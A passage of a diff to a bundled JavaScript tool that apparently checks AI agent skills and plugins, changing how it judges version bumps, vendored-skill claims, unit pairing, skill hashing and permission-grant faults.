+			if (!pair.before || pair.before === pair.after) return null;
+			const [before, after] = recordsOf(pair);
+			return before && (after || !pair.after) ? {
+				before,
+				after
+			} : null;
+		},
+		claimOf: (pair) => {
+			if (!pair.before || !pair.after) return null;
+			const [before, after] = recordsOf(pair);
+			return before ? null : after;
+		}
 	};
 }
 // src/pipeline/judge/version-pins.ts
@@ -39427,7 +42544,7 @@ function sideOf$4(value) {
 	if (typeof name === "string" && name !== "") return namePart(name);
 	return typeof root === "string" && root !== "" ? pathPart(root) : null;
 }
-const subjects = {
+const subjects$1 = {
 	"input-optional": "input",
 	"input-required": "input",
 	"env-optional": "variable",
@@ -39448,7 +42565,7 @@ function splitId(id) {
 	if (found === void 0) return [id.replaceAll("-", " "), ""];
 	const [ending, verb] = found;
 	const subject = id.slice(0, -ending.length - 1);
-	return [subjects[subject] ?? subject.replaceAll("-", " "), verb];
+	return [subjects$1[subject] ?? subject.replaceAll("-", " "), verb];
 }
 // src/pipeline/judge/version-bump.ts
 function declaredBumpOf({ before, after }) {
@@ -39521,7 +42638,7 @@ function changeDrafts({ pair, changes }, declared, config) {
 	return changes.map((change) => ({
 		...requiredOf(change, pair, declared, config),
 		rule: change.rule,
-		draft: draftOf(change, pairSecrets),
+		draft: draftOf$1(change, pairSecrets),
 		source
 	}));
 }
@@ -39542,7 +42659,7 @@ function severityOf({ bump, warn }, pair, declared, config) {
 	if (bump === "major") return declared === null ? breakingSeverity(pair, config) : "error";
 	return warn ? "warning" : "note";
 }
-function draftOf({ change, rule }, { names }) {
+function draftOf$1({ change, rule }, { names }) {
 	const { at, was, from, to, kind, facet, detail } = change;
 	const item = change.before ?? change.after;
 	const about = [
@@ -39646,13 +42763,30 @@ const interfaceCategories = new Set([
 	"requirement"
 ]);
 // src/pipeline/judge/vendored-judgement.ts
-function vendoredChangeDrafts(drafts) {
+function vendoredChangeDrafts(drafts, isVerified) {
+	const severityOf = ({ rule, severity, bump }) => {
+		if (rule.category === "privilege") return severity;
+		return bump === "major" && !isVerified ? "warning" : "note";
+	};
 	return drafts.filter(isNoRecord).map((draft) => ({
 		...draft,
-		severity: draft.rule.category === "privilege" ? draft.severity : "note",
+		severity: severityOf(draft),
 		bump: "none",
 		isCovered: false
 	}));
+}
+function claimDrafts({ after }, claim) {
+	if (!after || !claim) return [];
+	const draft = {
+		message: msg`A new record claims that ${namePart(after.name)} comes from ${code$1(claim.origin.source)}.`,
+		help: msg`Keep the record only if the skill is installed from there.`,
+		notes: [{ message: msg`After the merge its breaks no longer count.` }],
+		at: claim.at,
+		about: `claim\0${claim.origin.source}`,
+		identity: after.name,
+		after: recordOf(claim)
+	};
+	return [ruleDraft(vendoredSkillClaimed, draft, sourceOf(after))];
 }
 function isNoRecord({ rule, draft: { about = "" } }) {
 	return rule.id !== metadataChanged.id || !/\0(?:github-[a-z-]+|local-path)\0/.test(about);
@@ -39745,7 +42879,8 @@ const noBump = {
 };
 function judge(comparison, settings) {
 	const { pair, changes, drafts } = comparison;
-	const findings = toFindings(drafts, settings.findingSettings);
+	const claims = claimDrafts(pair, settings.claimOf(pair));
+	const findings = toFindings([...drafts, ...claims], settings.findingSettings);
 	const unjudged = {
 		pair,
 		findings,
@@ -39794,17 +42929,18 @@ function judgeVendored({ pair, changes }, vendored, { config, findingSettings })
 		unreleased: [],
 		neededVersion: null
 	};
-	if (!vendored.after) return {
-		...judgement,
-		...none,
-		findings: []
-	};
 	const drafts = changeDrafts({
 		pair,
 		changes
 	}, null, config);
+	const isVerified = vendored.before.isVerified === true;
+	if (!vendored.after && isVerified) return {
+		...judgement,
+		...none,
+		findings: []
+	};
 	const update = updateDraft(pair, vendored, drafts);
-	const all = [...update ? [update] : [], ...vendoredChangeDrafts(drafts)];
+	const all = [...update ? [update] : [], ...vendoredChangeDrafts(drafts, isVerified)];
 	return {
 		...judgement,
 		...none,
@@ -40184,39 +43320,6 @@ function effectOf(table, ignored = "") {
 	const value = toJson(table);
 	return canonical(Object.fromEntries(Object.entries(value).filter(([key]) => !describing.has(key) && key !== ignored)));
 }
-// src/units/marketplace-entries.ts
-function localEntries(marketplace) {
-	const { document } = marketplace;
-	const pluginRoot = text$1(get(get(document ?? void 0, "metadata"), "pluginRoot"));
-	return items(get(document ?? void 0, "plugins")).flatMap((table) => {
-		const nameValue = get(table, "name");
-		const [name, source] = [text$1(nameValue)?.trim(), text$1(get(table, "source"))];
-		if (table.kind !== "table" || !name || !source || !nameValue) return [];
-		const root = folderOfSource(source, marketplace.root, pluginRoot);
-		return root === void 0 ? [] : {
-			name,
-			at: nameValue.at,
-			marketplace,
-			table,
-			root
-		};
-	});
-}
-function entryNamed(document, name) {
-	return document ? entriesByName(document).get(name) : void 0;
-}
-const entriesByName = memoize((document) => {
-	const entries = new Map();
-	for (const entry of items(get(document, "plugins"))) {
-		const name = text$1(get(entry, "name"))?.trim();
-		if (entry.kind === "table" && name && !entries.has(name)) entries.set(name, entry);
-	}
-	return entries;
-});
-function folderOfSource(source, root, pluginRoot) {
-	if (/^(?:[\\/~]|[a-z][a-z\d+.-]*:|[\w.-]+@[\w.-]+:)/i.test(source)) return void 0;
-	return resolve$1(root, !/^\.{1,2}(?:\/|$)/.test(source) ? join$2(pluginRoot ?? "", source) : source);
-}
 // src/units/versions.ts
 const order$1 = [
 	"claude-plugin",
@@ -40229,21 +43332,28 @@ const order$1 = [
 ];
 const keyed = new Set(order$1.slice(0, 4));
 function versionsIn(files, name) {
-	return files.flatMap((file) => versionIn(file, name) ?? []).sort((a, b) => order$1.indexOf(a.kind) - order$1.indexOf(b.kind));
+	return files.flatMap((file) => versionIn(file, name) ?? []).sort(bySignificance);
+}
+function bySignificance(one, other) {
+	return order$1.indexOf(one.kind) - order$1.indexOf(other.kind);
 }
 function isUpdateKey({ kind }) {
 	return keyed.has(kind);
 }
 function versionIn({ kind, document }, name) {
-	const table = kind === "marketplace" ? entryNamed(document, name) : document ?? void 0;
+	const isMarketplace = kind === "marketplace";
+	const table = isMarketplace ? entryNamed(document, name) : document ?? void 0;
 	if (kind === "npm" && !shipsSkills(table)) return null;
 	const value = get(table, "version");
 	const written = source(value);
-	return value && written ? {
+	if (!value || !written) return null;
+	const entries = isMarketplace ? items(get(document ?? void 0, "plugins")) : [];
+	return {
 		kind,
+		pointer: table && isMarketplace ? `plugins.${entries.indexOf(table)}.version` : "version",
 		value: written,
 		at: value.at
-	} : null;
+	};
 }
 function shipsSkills(table) {
 	if (flag$1(get(table, "private")) === true || text$1(get(table, "version")) === "0.0.0") return false;
@@ -40251,10 +43361,10 @@ function shipsSkills(table) {
 }
 // src/units/compare-parts.ts
 function compareParts(before, after) {
-	const previous = new Map(before.map((part) => [keyOf$4(part), part]));
-	const next = new Set(after.map(keyOf$4));
-	return [...before.flatMap((part) => next.has(keyOf$4(part)) ? [] : changeOf$1(part, "removed")), ...after.flatMap((part) => {
-		const oldPart = previous.get(keyOf$4(part));
+	const previous = new Map(before.map((part) => [keyOf$5(part), part]));
+	const next = new Set(after.map(keyOf$5));
+	return [...before.flatMap((part) => next.has(keyOf$5(part)) ? [] : changeOf$1(part, "removed")), ...after.flatMap((part) => {
+		const oldPart = previous.get(keyOf$5(part));
 		if (!oldPart) return changeOf$1(part, "added");
 		return haveSameBytes(oldPart, part) ? [] : changeOf$1(part, "changed");
 	})].filter(({ kind }) => kind !== "skill");
@@ -40284,7 +43394,7 @@ function haveSameBytes(before, after) {
 function hasSameIds(before, after) {
 	return before.files.every(({ id }, index) => id === after.files[index]?.id);
 }
-function keyOf$4({ kind, name }) {
+function keyOf$5({ kind, name }) {
 	return `${kind}\0${name}`;
 }
 // src/pipeline/plugins/reasons.ts
@@ -40313,13 +43423,27 @@ function partMessage({ kind, name, action }) {
 	if (action === "changed") return msg`Content of ${noun} ${part} changed.`;
 	return msg`${words(`${kind.charAt(0).toUpperCase()}${kind.slice(1)}`)} ${part} was ${words(action)}.`;
 }
-function skillNotes(change, { findings, requiredSinceBase }) {
+function skillNotes(change, { pair, findings, requiredSinceBase }) {
 	const needing = findings.filter(({ bump, state }) => state === "new" && bump !== null && bump === requiredSinceBase);
-	if (needing.length === 0) return [{ message: partMessage(change) }];
+	if (needing.length === 0) {
+		const isSameText = pair.before && pair.after && areSameLines(pair.before, pair.after);
+		const message = msg`Only line endings of skill ${namePart(change.name)} changed.`;
+		return [{ message: isSameText ? message : partMessage(change) }];
+	}
 	return needing.map(({ phrase, message, at }) => ({
 		message: msg`${namePart(change.name)}: ${phrase ? msg`${phrase}.` : message}`,
 		at
 	}));
+}
+function areSameLines(before, after) {
+	const old = new Map(before.files.map((file) => [file.name, file]));
+	const linesOf = ({ texts }, path) => texts.get(path ?? "")?.replaceAll("\r\n", "\n");
+	return old.size === after.files.length && after.files.every((file) => {
+		const was = old.get(file.name);
+		if (!filesDiffer(was, file)) return true;
+		const lines = linesOf(before, was?.path);
+		return was?.kind === file.kind && lines !== void 0 && lines === linesOf(after, file.path);
+	});
 }
 function placeOf$1({ kind, name, action }, { before, after }, judgement) {
 	const [old, present] = [judgement?.pair.before?.path, judgement?.pair.after?.path];
@@ -40370,10 +43494,10 @@ function keepsVersion({ before, after }) {
 	return version !== void 0 && version === before.version?.value;
 }
 function isGain(change) {
-	const isReplaced = change.previous !== null && commands.has(change.power.feature);
+	const isReplaced = change.previous !== null && commands$1.has(change.power.feature);
 	return isWidening(change) && !change.isSameCommand && !isReplaced;
 }
-const commands = new Set([
+const commands$1 = new Set([
 	"hook",
 	"inline-command",
 	"background-program",
@@ -40497,16 +43621,25 @@ function sinceNote(amount, { date, sha }) {
 	return { message: msg`${count(amount, "change")} since ${words(date)} (${code$1(sha.slice(0, 7))}).` };
 }
 function releaseNote({ plugin, releaseTool }) {
-	const path = plugin.version?.at.path;
-	if (releaseTool === null || path === void 0) return [];
-	if (releaseTool.raises && !releaseTool.raises.has(path)) return [];
-	return [{ message: msg`${words(releaseTool.name)} raises it with the next release.` }];
+	if (releaseTool === null || plugin.version === null) return [];
+	const tool = words(releaseTool.name);
+	const left = plugin.versions.filter((version) => !raisesVersion(releaseTool, version));
+	const behind = left.map(({ at }) => ({
+		message: msg`${tool} does not raise ${pathPart(at.path)}: it stays behind.`,
+		at
+	}));
+	if (left.includes(plugin.version)) return behind;
+	return [{ message: msg`${tool} raises it with the next release.` }, ...behind];
 }
 function remedy({ plugin, change, releaseTool, severity }) {
 	const { version } = plugin;
 	if (!version) return void 0;
-	const { path } = version.at;
-	if (releaseTool?.raises && !releaseTool.raises.has(path)) return msg`List ${pathPart(path)} under ${code$1("extra-files")} of ${words(releaseTool.name)}.`;
+	if (releaseTool && !raisesVersion(releaseTool, version)) {
+		const { kind, pointer, at } = version;
+		const jsonPath = `$.${pointer.replace(/\.(\d+)/, "[$1]")}`;
+		const place = kind === "marketplace" ? msg` with ${code$1(jsonPath)}` : nothing$2;
+		return msg`List ${pathPart(at.path)}${place} under ${code$1("extra-files")} of ${words(releaseTool.name)}.`;
+	}
 	if (releaseTool !== null || change === null || !isVersion$1(version.value)) return void 0;
 	const sufficient = code$1(smallestCoveringVersion(version.value, change.required));
 	return severity === "error" ? msg`Set it to ${sufficient}.` : msg`Set it to ${sufficient}, or users do not get the change.`;
@@ -40539,7 +43672,7 @@ function pluginSource({ listings, plugins }) {
 function staleSeverity({ version }, releaseTool, { isProposal, isRelease, isPerChange }) {
 	if (isProposal) return isPerChange ? "error" : "note";
 	if (isRelease || releaseTool === null || !version) return "warning";
-	return (releaseTool.raises === null || releaseTool.raises.has(version.at.path)) && releaseTool.isPending ? "note" : "warning";
+	return raisesVersion(releaseTool, version) && releaseTool.isPending ? "note" : "warning";
 }
 // src/units/file-effect.ts
 function fileEffect({ kind, document }, listedAs, ignored) {
@@ -40954,9 +44087,11 @@ function requiredAlgorithms(locks) {
 		const home = lockHome(lock.path);
 		for (const { id, pins } of lock.entries) {
 			const locations = lookupBy === "installed" ? installFolders(id).map((folder) => `at\0${installKey(home, folder)}`) : [];
-			for (const { algorithm, folder } of pins) if (lookupBy === "name") add(`name\0${id}`, algorithm);
-			else if (lookupBy === "installed") for (const location of locations) add(location, algorithm);
-			else if (folder !== void 0) add(`root\0${folder}`, algorithm);
+			for (const { algorithm, folder } of pins) {
+				if (lookupBy !== "path") add(`name\0${id}`, algorithm);
+				if (lookupBy === "installed") for (const location of locations) add(location, algorithm);
+				else if (folder !== void 0) add(`root\0${folder}`, algorithm);
+			}
 		}
 	}
 	return (root, name) => keysOf(root, name).flatMap((key) => [...required.get(key) ?? []]);
@@ -41158,7 +44293,7 @@ function addFolders(folders, path) {
 	}
 }
 const [maxPaths, maxPathsPerFile] = [2e4, 4];
-const maxDepth = 8;
+const maxDepth$1 = 8;
 function followLinks(tree, map) {
 	const found = [];
 	const paths = tree.entries.map(({ path }) => path);
@@ -41172,7 +44307,7 @@ function followLinks(tree, map) {
 		});
 		if (end.kind === "file") return;
 		const isLoop = end.kind === "folder" && isAtOrInside(at, end.path);
-		if (end.kind !== "folder" || isLoop || depth === maxDepth || budget <= 0) {
+		if (end.kind !== "folder" || isLoop || depth === maxDepth$1 || budget <= 0) {
 			found.push({
 				path,
 				closed: reasonOf$1(path, isLoop ? "loop" : end.kind),
@@ -41315,6 +44450,8 @@ const probes = [
 	"marketplace.json",
 	"config.toml",
 	"monitors.json",
+	"extension.mjs",
+	"x/extension.mjs",
 	"commands/x.md",
 	"agents/x.md",
 	"plugins/x.js",
@@ -41333,8 +44470,8 @@ function readersOf(path, tree, isClosed) {
 	const skills = skillPlace.test(path) ? ["SKILL.md"] : [];
 	const inside = [...probes, ...skills].flatMap((name) => {
 		const anywhere = findCarrierFiles([join$2("x", name)], { has: () => false });
-		const isTold = ({ carrier }) => name === "SKILL.md" || !anywhere.some((file) => file.carrier === carrier);
-		return findCarrierFiles([join$2(path, name)], tree).filter(isTold);
+		const isReported = ({ carrier }) => name === "SKILL.md" || !anywhere.some((file) => file.carrier === carrier);
+		return findCarrierFiles([join$2(path, name)], tree).filter(isReported);
 	});
 	return [...all, ...inside].map((file) => ({
 		...file,
@@ -41611,11 +44748,33 @@ function unreadable$1(path) {
 async function hashSkills(tree, input) {
 	const { parsed, submodules } = input;
 	const requests = hashRequests(input);
-	const digests = await digestFiles(tree.stored, requests);
+	const known = requests.map((request) => digestsBefore(tree, request, input.hashed));
+	const digests = await digestFiles(tree.stored, requests.map((request, index) => known[index] ? {
+		...request,
+		algorithms: []
+	} : request));
+	const ids = requests.some(({ ignore }) => ignore !== null) ? await tree.stored.knownIds?.() : null;
+	const idOf = (path) => tree.id(path) ?? ids?.get(tree.realPath(path));
 	return parsed.map((skill, index) => ({
 		submodules: submodules.get(skill.found.root) ?? [],
-		...completeSkill(tree, skill, requests[index]?.ignore ?? null, digests[index])
+		...completeSkill(tree, skill, {
+			ignore: requests[index]?.ignore ?? null,
+			digests: known[index] ?? digests[index],
+			idOf
+		})
 	}));
+}
+function digestsBefore(tree, { root, files, algorithms }, hashed) {
+	const same = hashed.get(root)?.find((skill) => hasSameFiles(tree, files, skill));
+	const values = algorithms.flatMap((algorithm) => {
+		const digest = same?.digests.get(algorithm);
+		return digest === void 0 ? [] : [[algorithm, digest]];
+	});
+	if (values.length === 0 || values.length < algorithms.length) return void 0;
+	return {
+		values: new Map(values),
+		problems: []
+	};
 }
 async function hashPinned(tree, input) {
 	const pinned = pinnedRequests(tree, input);
@@ -41663,14 +44822,15 @@ function hashRequests({ parsed, texts, submodules, algorithmsOf }) {
 		};
 	});
 }
-function completeSkill(tree, { found, facts }, ignore, { values, problems } = {
-	values: new Map(),
-	problems: []
-}) {
+function completeSkill(tree, { found, facts }, { ignore, digests, idOf }) {
+	const { values, problems } = digests ?? {
+		values: new Map(),
+		problems: []
+	};
 	const reported = new Set(facts.problems.map(({ rule, at }) => `${rule}\0${at.path}`));
 	const hashProblems = problems.filter(({ rule, at }) => !reported.has(`${rule}\0${at.path}`));
 	return {
-		files: found.files.map((file) => withId(tree, file)),
+		files: found.files.map((file) => withId(tree, file, idOf)),
 		ignore,
 		digests: values,
 		hasOrigin: originInFrontmatter(facts) !== null,
@@ -41678,13 +44838,13 @@ function completeSkill(tree, { found, facts }, ignore, { values, problems } = {
 		problems: [...facts.problems, ...hashProblems]
 	};
 }
-function withId(tree, file) {
+function withId(tree, file, idOf) {
 	const { path, name, kind } = file;
 	return kind === "symlink" && !tree.opened.has(path) ? file : {
 		path,
 		name,
 		kind,
-		id: tree.id(path)
+		id: idOf(path)
 	};
 }
 // src/pipeline/load/hash-variants.ts
@@ -41820,6 +44980,7 @@ function collect(value, place) {
 			at: keyAt
 		});
 	});
+	if (path === "") return [];
 	const text = canonical(toJson(value));
 	const trimmed = value.kind === "string" ? String(value.value).trim() : text;
 	return [{
@@ -41843,10 +45004,10 @@ function leavesBeyond(leaves, others) {
 }
 // src/powers/read-leaves.ts
 function readLeaves({ path, carrier, unit }, text) {
-	if (carrier.ignoresText || carrier.id === "plugin-package") return [];
+	if (carrier.ignoresText || carrier.isShared) return [];
 	if (path.endsWith(".md")) {
 		if (unit.kind === "skill") return [];
-		const { frontmatter } = readLenientFrontmatter(path, text, commandKeys$2);
+		const { frontmatter } = readLenientFrontmatter(path, text, commandKeys$1);
 		return frontmatter ? leavesOf(frontmatter) : [];
 	}
 	const root = parse$2(path, text.replace(/^\ufeff/, ""));
@@ -41913,6 +45074,7 @@ function unavailable(path, reason, unit) {
 			help,
 			at: { path },
 			isUnreadable: true,
+			isElsewhere: true,
 			isReportedElsewhere
 		}],
 		unread: []
@@ -41921,41 +45083,42 @@ function unavailable(path, reason, unit) {
 function movedTo(result, place, path) {
 	const moved = (item) => item.at.path === place ? {
 		...item,
-		at: {
-			...item.at,
-			path
-		}
+		at: withPath(item.at, path)
 	} : item;
 	return {
 		...result,
 		grants: result.grants.map(moved),
 		faults: result.faults.map(moved),
 		unread: result.unread.map(moved),
-		invocationKeys: result.invocationKeys?.map(moved)
+		invocationKeys: result.invocationKeys?.map(moved),
+		follow: result.follow && new Map([...result.follow].map(([to, file]) => [to, moved(file)]))
 	};
 }
 function followedFiles(read) {
 	const known = new Set(read.map(({ file }) => `${file.carrier.id}\0${file.path}`));
 	return read.flatMap(({ file, result }) => [...result.follow ?? []].flatMap(([path, target]) => {
-		const [id, unit] = typeof target === "string" ? [target, file.unit] : [target.carrier, target.unit];
-		const carrier = findCarrier(id);
-		const key = `${id}\0${path}`;
+		const carrier = findCarrier(target.carrier);
+		const key = `${target.carrier}\0${path}`;
 		if (!carrier || known.has(key)) return [];
 		known.add(key);
 		return {
 			path,
 			carrier,
-			unit
+			unit: target.unit ?? file.unit
 		};
 	}));
 }
 function withMissingFiles(read, paths) {
 	return read.map((readFile) => {
 		const { file, result } = readFile;
-		const missing = [...result.follow?.keys() ?? []].filter((path) => !paths.has(path));
+		const missing = [...result.follow ?? []].filter(([path]) => !paths.has(path));
 		if (missing.length === 0) return readFile;
-		const faults = missing.map((path) => {
-			return grantFault(msg`${pathPart(path)} does not exist. ${words(file.carrier.client)} reads nothing there.`, { path: file.path });
+		const faults = missing.map(([path, { at, carrier, unit: { root } = file.unit }]) => {
+			return {
+				...grantFault(msg`${volatile(pathPart(path))} does not exist. ${words(file.carrier.client)} reads nothing there.`, at),
+				value: isInside$2(path, root) ? relativePath$1(root, path) : path,
+				isReportedElsewhere: file.carrier.id === "claude-plugin" && carrier !== "plugin-monitors" && ![...selfAndAncestors(path)].some((folder) => paths.has(folder))
+			};
 		});
 		return {
 			...readFile,
@@ -41975,6 +45138,10 @@ function assembleGrants(read, found) {
 		offered: read.flatMap(({ realPath: path, result: { plugins = [] } }) => plugins.map((plugin) => ({
 			path,
 			...plugin
+		}))),
+		skillFolders: read.flatMap(({ realPath: path, result }) => (result.skillFolders ?? []).map((folder) => ({
+			path,
+			...folder
 		})))
 	};
 }
@@ -42001,9 +45168,20 @@ function defaultName({ kind, root }) {
 	if (kind === "repository") return root;
 	return nameOf$3(root).replace(/\.(?:agent\.md|prompt\.md|md|toml)$/, "");
 }
-function untoldRemark(grant, found) {
+function uncertainRemark(grant, found) {
 	const { programs, runs } = found.get(grant) ?? {};
 	return runs?.isCertain === false && programs?.length === 0 && !grant.pin && !runs.missing.length ? "its program cannot be told" : void 0;
+}
+function powerOf(grant, unit, found) {
+	const { unit: ownUnit, scope, receiver, command: _, cwd: _cwd, ...facts } = grant;
+	return {
+		unit: ownUnit ?? unit,
+		scope: redactScope(scope),
+		receiver: receiver === void 0 ? void 0 : redactScope(receiver),
+		...facts,
+		remark: facts.remark ?? uncertainRemark(grant, found),
+		...found.get(grant)
+	};
 }
 function grantFile({ file, id, text, realPath, result }, units, found) {
 	const { kind, root } = file.unit;
@@ -42019,20 +45197,10 @@ function grantFile({ file, id, text, realPath, result }, units, found) {
 		carrier: file.carrier.id,
 		unit,
 		id,
-		powers: result.grants.map((grant) => {
-			const { unit: ownUnit, scope, receiver, command: _, cwd: _cwd, ...facts } = grant;
-			return {
-				unit: ownUnit ?? unit,
-				scope: redactScope(scope),
-				receiver: receiver === void 0 ? void 0 : redactScope(receiver),
-				...facts,
-				remark: facts.remark ?? untoldRemark(grant, found),
-				...found.get(grant)
-			};
-		}),
+		powers: result.grants.map((grant) => powerOf(grant, unit, found)),
 		faults: file.carrier.isCheckedElsewhere && !file.closed ? result.faults.map((fault) => ({
 			...fault,
-			isReportedElsewhere: fault.isUnreadable
+			isReportedElsewhere: fault.isReportedElsewhere || fault.isUnreadable
 		})) : result.faults,
 		unread: result.unread,
 		invocationKeys: result.invocationKeys ?? [],
@@ -42134,13 +45302,13 @@ function withoutPages(grants, skillRoots) {
 	};
 }
 function lookup(tree, reusable) {
-	const byKey = new Map(reusable.map((readFile) => [`${keyOf$3(readFile.file)}\0${readFile.id}`, readFile]));
+	const byKey = new Map(reusable.map((readFile) => [`${keyOf$4(readFile.file)}\0${readFile.id}`, readFile]));
 	return (file) => {
 		const id = tree.id(file.path);
-		return id === void 0 ? void 0 : byKey.get(`${keyOf$3(file)}\0${id}`);
+		return id === void 0 ? void 0 : byKey.get(`${keyOf$4(file)}\0${id}`);
 	};
 }
-function keyOf$3({ path, carrier, unit }) {
+function keyOf$4({ path, carrier, unit }) {
 	return [
 		carrier.id,
 		path,
@@ -42929,7 +46097,9 @@ async function load(tree, config, options = {}) {
 		powerFiles
 	};
 }
-async function loadContents(tree, discovered, input, { onSkill, onProgress, reusable, isCompared = false, algorithms = [] }) {
+async function loadContents(tree, discovered, input, options) {
+	const { onSkill, onProgress, reusable, isCompared = false, algorithms = [] } = options;
+	const { known = nothingKnown } = options;
 	const { carrierFiles, unknownCarrierFiles, submodules, texts, locks, paths } = input;
 	const { isMatched: isIgnored } = input.discovery;
 	const required = requiredAlgorithms(locks);
@@ -42937,6 +46107,7 @@ async function loadContents(tree, discovered, input, { onSkill, onProgress, reus
 	const { skills, powerFiles: read } = await loadSkills(tree, discovered, {
 		carrierFiles: unknownCarrierFiles,
 		submodules,
+		hashed: groupBy(known.hashed, ({ root }) => root),
 		onProgress,
 		algorithmsOf: (root, name) => [...algorithms, ...required(root, name)],
 		onSkill: onSkill && ((skill) => onSkill(skill, side))
@@ -43081,6 +46252,160 @@ const relatedDialects = new Set(relationRulesOf("manifest").flatMap(({ dialects 
 function isRelated({ manifests }) {
 	return manifests.some(({ dialect }) => relatedDialects.has(dialect));
 }
+// src/powers/compare/pair-units.ts
+function pairUnits(base, head, skillRoots) {
+	const pairing = new UnitPairing(candidatesOf(base), candidatesOf(head));
+	const skillIn = (root) => `skill\0${root}`;
+	pairing.where(({ unit }) => unit.kind === "skill", ({ unit }) => skillIn(skillRoots.get(unit.root) ?? unit.root), ({ unit }) => skillIn(unit.root));
+	const isPlugin = ({ unit }) => unit.kind === "plugin";
+	pairing.where(isPlugin, rootAndName);
+	pairing.where(isPlugin, ({ unit }) => unit.name);
+	pairing.where(isPlugin, ({ key }) => key);
+	pairing.bySkills(skillRoots);
+	const isOther = ({ unit }) => unit.kind !== "plugin" && unit.kind !== "skill";
+	pairing.where(isOther, rootAndName);
+	const [basePlugin, headPlugin] = [pluginLookup(base.units), pluginLookup(head.units)];
+	const successorOf = (plugin) => plugin && pairing.pairs.get(unitKey(plugin));
+	pairing.where(isOther, ({ unit }) => nameInPlugin(unit, successorOf(basePlugin(unit.root))), ({ unit }) => nameInPlugin(unit, headPlugin(unit.root)));
+	pairing.byContent(isOther);
+	pairing.where(isOther, ({ unit }) => unit.name === "" ? void 0 : kindAndName(unit));
+	pairing.where(isOther, ({ key }) => key);
+	return pairing.pairs;
+}
+function pathInHead({ path, unit }, to) {
+	if (path === unit.root) return to.root;
+	return isInside$2(path, unit.root) ? join$2(to.root, relativePath$1(unit.root, path)) : path;
+}
+function candidatesOf({ units, files }) {
+	const filesByUnit = groupBy(files, ({ unit }) => unitKey(unit));
+	return units.map((unit) => {
+		const key = unitKey(unit);
+		const ids = (filesByUnit.get(key) ?? []).map(({ id, carrier }) => id && `${carrier} ${id}`);
+		return {
+			unit,
+			key,
+			content: ids.length > 0 && ids.every((id) => id !== void 0) ? [unit.kind, ...ids].join("\0") : void 0
+		};
+	});
+}
+function rootAndName({ key, unit }) {
+	return `${key}\0${unit.name}`;
+}
+function kindAndName({ kind, name }) {
+	return `${kind}\0${name}`;
+}
+function nameInPlugin(unit, plugin) {
+	return plugin && `${kindAndName(unit)}\0${plugin.root}`;
+}
+function pluginLookup(units) {
+	const plugins = new Map(units.flatMap((unit) => unit.kind === "plugin" ? [[unit.root, unit]] : []));
+	return (root) => {
+		for (const folder of plugins.size > 0 ? selfAndAncestors(root) : []) {
+			const plugin = plugins.get(folder);
+			if (plugin) return plugin;
+		}
+	};
+}
+var UnitPairing = class {
+	pairs = new Map();
+	base;
+	head;
+	constructor(base, head) {
+		this.base = new Set(base);
+		this.head = new Set(head);
+	}
+	where(isMeant, baseKey, headKey = baseKey) {
+		const heads = groupBy([...this.head].filter(isMeant), headKey);
+		for (const [key, [before, ...others]] of groupBy([...this.base].filter(isMeant), baseKey)) {
+			const [after, ...more] = heads.get(key) ?? [];
+			const isUnique = key !== void 0 && others.length + more.length === 0;
+			if (before && after && isUnique) this.pair(before, after);
+		}
+	}
+	byContent(isMeant) {
+		const heads = groupBy([...this.head].filter(isMeant), ({ content }) => content);
+		for (const before of [...this.base].filter(isMeant)) {
+			const after = before.content === void 0 ? void 0 : heads.get(before.content)?.shift();
+			if (after) this.pair(before, after);
+		}
+	}
+	bySkills(skillRoots) {
+		const [basePlugin, headPlugin] = [this.base, this.head].map((side) => pluginLookup([...side].map(({ unit }) => unit)));
+		const targets = groupBy([...skillRoots].flatMap(([from, to]) => {
+			const [before, after] = [basePlugin(from), headPlugin(to)];
+			return before && after ? [[unitKey(before), unitKey(after)]] : [];
+		}), ([from]) => from);
+		this.where(({ unit }) => unit.kind === "plugin", ({ key }) => singleValue((targets.get(key) ?? []).map(([, to]) => to)), ({ key }) => key);
+	}
+	pair(before, after) {
+		this.base.delete(before);
+		this.head.delete(after);
+		this.pairs.set(before.key, after.unit);
+	}
+};
+function singleValue(values) {
+	const [first, second] = new Set(values);
+	return second === void 0 ? first : void 0;
+}
+// src/pipeline/relate/grant-fault-drafts.ts
+function relateGrantFaults(head, base, successors) {
+	const before = base ? placedFaults(base, "base", successors) : [];
+	const known = new Set(before.map(keyOf$3));
+	const isNew = (fault) => base !== null && !known.has(keyOf$3(fault));
+	return {
+		head: placedFaults(head, "head").map((fault) => draftOf(fault, isNew(fault))),
+		base: before.map((fault) => draftOf(fault, true))
+	};
+}
+function placedFaults({ grants, skills }, side, successors) {
+	const skillsByPath = new Map(skills.map((skill) => [skill.path, skill]));
+	return grants.files.flatMap((file) => {
+		const after = successors?.get(unitKey(file.unit));
+		return file.faults.filter(({ isReportedElsewhere }) => !isReportedElsewhere).map((fault) => {
+			const { at, message } = fault;
+			const path = after ? pathInHead({
+				...file,
+				path: at.path
+			}, after) : at.path;
+			const skill = skillsByPath.get(at.path);
+			return {
+				fault,
+				path,
+				about: [
+					"grant",
+					skill ? "" : path,
+					...identityOf$1(message)
+				].join("\0"),
+				value: faultyValue(fault, file, side),
+				skill
+			};
+		});
+	});
+}
+function faultyValue({ value, isUnreadable }, { id }, side) {
+	return value ?? (isUnreadable ? id ?? side : void 0);
+}
+function keyOf$3({ about, value = "" }) {
+	return `${about}\0${value}`;
+}
+function draftOf({ fault, path, about, value, skill }, isNew) {
+	const { message, help, isUnreadable, isOfGuard, isElsewhere } = fault;
+	const severity = (isElsewhere ? isNew : isUnreadable || isOfGuard) ? "error" : "warning";
+	const at = path === fault.at.path ? fault.at : { path };
+	const source = skill ? sourceOf(skill) : repositorySource;
+	const draft = {
+		message,
+		help,
+		at,
+		value,
+		severity,
+		about
+	};
+	return ruleDraft({
+		...grantMalformed,
+		severity
+	}, draft, source);
+}
 // src/pipeline/relate/machine-drafts.ts
 const rules$3 = lintRulesOf("machine");
 async function machineDrafts(skills, probe) {
@@ -43122,174 +46447,734 @@ function limitsOf$1(policy, keys) {
 		return typeof limit === "boolean" ? !limit : limit !== null && limit !== "any";
 	});
 }
-// src/contract/coverage/policy.ts
-function denialsOf(skill, policy) {
-	return skill.contract.items.flatMap((item) => checks$1[item.kind]?.(item, policy) ?? []);
-}
-const checks$1 = {
-	effect,
-	power: power$2,
-	execution,
-	sensitive,
-	environment,
-	"allowed-tools": allowedTools
-};
-const effectGrants = {
-	"net.fetch": "network",
-	"proc.exec": "exec",
-	"fs.read": "filesystemRead",
-	"fs.write": "filesystemWrite"
-};
-function effect(item, policy) {
-	const subject = msg`Effect ${code$1(item.name)}`;
-	if (policy.effects !== null && !policy.effects.includes(item.name)) return [outsideDenial(item, subject, {
-		key: "effects",
